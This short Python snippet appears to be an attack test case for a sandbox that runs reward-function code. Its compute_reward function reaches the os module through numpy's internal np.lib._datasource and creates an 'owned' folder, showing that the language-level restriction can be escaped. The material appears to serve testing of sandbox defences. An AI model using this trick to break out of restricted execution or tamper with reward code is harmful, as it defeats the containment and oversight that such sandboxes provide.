# attack: modules under np.lib
# group: numpy
# wall: language; alone: seccomp (no open)

def compute_reward(x):
    np.lib._datasource.os.mkdir('@FOLDER@/owned')
    return x, {}
